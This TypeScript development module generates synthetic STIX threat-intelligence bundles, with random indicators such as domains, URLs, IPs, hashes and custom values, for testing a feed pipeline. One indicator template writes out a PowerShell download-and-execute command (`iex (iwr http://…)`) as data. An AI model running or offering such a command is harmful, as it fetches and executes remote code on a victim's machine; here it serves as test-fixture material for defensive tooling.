import {
  hash32,
  Rng,
  synthStix,
  type StixBundle,
  type StixIndicatorSpec,
  type SynthFeed,
} from '@/dev/synth';

// The bench feed's STIX bundle with indicators on its reports, in the upstream's shapes
// (../shared/upstream/stix-indicators-sample.json): `name` "<type>: <value>", a one-comparison
// pattern, standard objects (url, domain-name, email-addr, ipv4/ipv6-addr, file hashes) and the
// custom x-ti-bot ones, escaped quotes, wildcards. As on the real feed most reports carry none,
// some 1-20+, a few hundreds to thousands (past the 1,000 a brief keeps); some values recur across
// reports under the same id. Without indicators it is the bundle synthStix builds, object for object.

export interface IndicatorMix {
  /** Share of reports with none, 1-20, 21-120, and 300-3,000 indicators. */
  none: number;
  few: number;
  many: number;
  huge: number;
}

export const REALISTIC_MIX: IndicatorMix = { none: 0.6, few: 0.32, many: 0.06, huge: 0.02 };

const TLDS = ['com', 'net', 'org', 'info', 'top', 'xyz', 'ru', 'io'];
const WORDS = ['update', 'cdn', 'secure', 'login', 'portal', 'files', 'sync', 'relay', 'mail'];
const CUSTOM = ['file_name', 'file_path', 'url_path', 'command', 'keyword', 'handle', 'string'];

/** Escapes a value for a STIX pattern's single-quoted string. */
const quoted = (value: string) => `'${value.replace(/['\\]/g, '\\$&')}'`;
const spec = (type: string, path: string, value: string, id?: string): StixIndicatorSpec => ({
  name: `${type}: ${value}`,
  pattern: `[${path} = ${quoted(value)}]`,
  ...(id && { id }),
});

function domainOf(rng: Rng): string {
  return `${rng.pick(WORDS)}-${rng.hex(6)}.${rng.pick(TLDS)}`;
}

/** One indicator of a type picked as the real bundle's mix goes (network ones most often). */
export function randomIndicator(rng: Rng): StixIndicatorSpec {
  const kind = rng.weighted([
    ['domain', 25],
    ['url', 20],
    ['ipv4', 15],
    ['sha256', 10],
    ['md5', 4],
    ['sha1', 3],
    ['email', 4],
    ['ipv6', 2],
    ['wildcard', 2],
    ['custom', 15],
  ] as const);
  switch (kind) {
    case 'domain':
      return spec('domain', 'domain-name:value', domainOf(rng));
    case 'wildcard':
      return spec('domain', 'domain-name:value', `*.${rng.pick(TLDS)}`);
    case 'url':
      return spec(
        'url',
        'url:value',
        `http://${domainOf(rng)}/${rng.pick(WORDS)}/${rng.hex(8)}.php`,
      );
    case 'ipv4':
      return spec(
        'ipv4',
        'ipv4-addr:value',
        `${rng.int(11, 223)}.${rng.int(0, 255)}.${rng.int(0, 255)}.${rng.int(1, 254)}`,
      );
    case 'ipv6':
      return spec('ipv6', 'ipv6-addr:value', `2001:db8:${rng.hex(4)}::${rng.hex(3)}`);
    case 'email':
      return spec('email', 'email-addr:value', `${rng.pick(WORDS)}.${rng.hex(4)}@${domainOf(rng)}`);
    case 'sha256':
      return spec('sha256', "file:hashes.'SHA-256'", rng.hex(64));
    case 'sha1':
      return spec('sha1', "file:hashes.'SHA-1'", rng.hex(40));
    case 'md5':
      return spec('md5', "file:hashes.'MD5'", rng.hex(32));
    case 'custom': {
      const type = rng.pick(CUSTOM);
      const value =
        type === 'file_path'
          ? `C:\\Users\\Public\\${rng.pick(WORDS)}_${rng.hex(4)}.exe`
          : type === 'url_path'
            ? `/wp-content/${rng.pick(WORDS)}/${rng.hex(6)}.php`
            : type === 'command'
              ? `powershell -nop -c 'iex (iwr http://${domainOf(rng)}/${rng.hex(4)})'`
              : `${rng.pick(WORDS)}'s-${rng.hex(6)}`;
      return spec(type, `x-ti-bot:${type}`, value);
    }
  }
}

/** How many indicators a report carries under `mix`. */
export function indicatorCount(rng: Rng, mix: IndicatorMix): number {
  const r = rng.next();
  if (r < mix.none) return 0;
  if (r < mix.none + mix.few) return 1 + Math.floor(20 * rng.next() ** 2);
  if (r < mix.none + mix.few + mix.many) return rng.int(21, 120);
  return rng.int(300, 3000);
}

/** Shared infrastructure: values several reports carry, one object id each (as upstream repeats them). */
function sharedPool(seed: number): StixIndicatorSpec[] {
  const rng = new Rng(seed ^ 0x5eed);
  return Array.from({ length: 200 }, (_, n) => {
    const s = randomIndicator(rng);
    return {
      ...s,
      id: `indicator--0000${(n + 1).toString(16).padStart(4, '0')}-0000-4000-8000-000000000000`,
    };
  });
}

/** The indicators of the report of brief `slug` (deterministic per slug and seed). */
export function indicatorsFor(
  slug: string,
  mix: IndicatorMix = REALISTIC_MIX,
  seed = 1,
  pool: readonly StixIndicatorSpec[] = sharedPool(seed),
): StixIndicatorSpec[] {
  const rng = new Rng(hash32(slug, seed));
  const count = indicatorCount(rng, mix);
  return Array.from({ length: count }, () =>
    rng.chance(0.1) ? rng.pick(pool) : randomIndicator(rng),
  );
}

export interface IndicatorBundleOptions {
  windowDays: number;
  referenceDate?: string;
  /** false: the same bundle without a single indicator. */
  indicators: boolean;
  mix?: IndicatorMix;
  seed?: number;
}

/** synthStix's bundle for `feed` (Markdown descriptions, repeated shared objects), with or without indicators. */
export function indicatorBundle(feed: SynthFeed, options: IndicatorBundleOptions): StixBundle {
  const seed = options.seed ?? 1;
  const pool = sharedPool(seed);
  // synthStix's seed stays 1 (its bundle key), so the two bundles differ in their indicators only.
  return synthStix(feed, {
    windowDays: options.windowDays,
    referenceDate: options.referenceDate,
    ...(options.indicators && {
      indicatorsOf: (slug: string) => indicatorsFor(slug, options.mix, seed, pool),
    }),
  });
}

export interface IndicatorCensus {
  reports: number;
  withIndicators: number;
  indicators: number;
  largest: number;
}

export function censusOf(bundle: StixBundle): IndicatorCensus {
  const reports = bundle.objects.filter((o) => o.type === 'report');
  const counts = reports.map(
    (r) =>
      ((r.object_refs as string[] | undefined) ?? []).filter((id) => id.startsWith('indicator--'))
        .length,
  );
  return {
    reports: reports.length,
    withIndicators: counts.filter((c) => c > 0).length,
    indicators: counts.reduce((a, b) => a + b, 0),
    largest: Math.max(0, ...counts),
  };
}
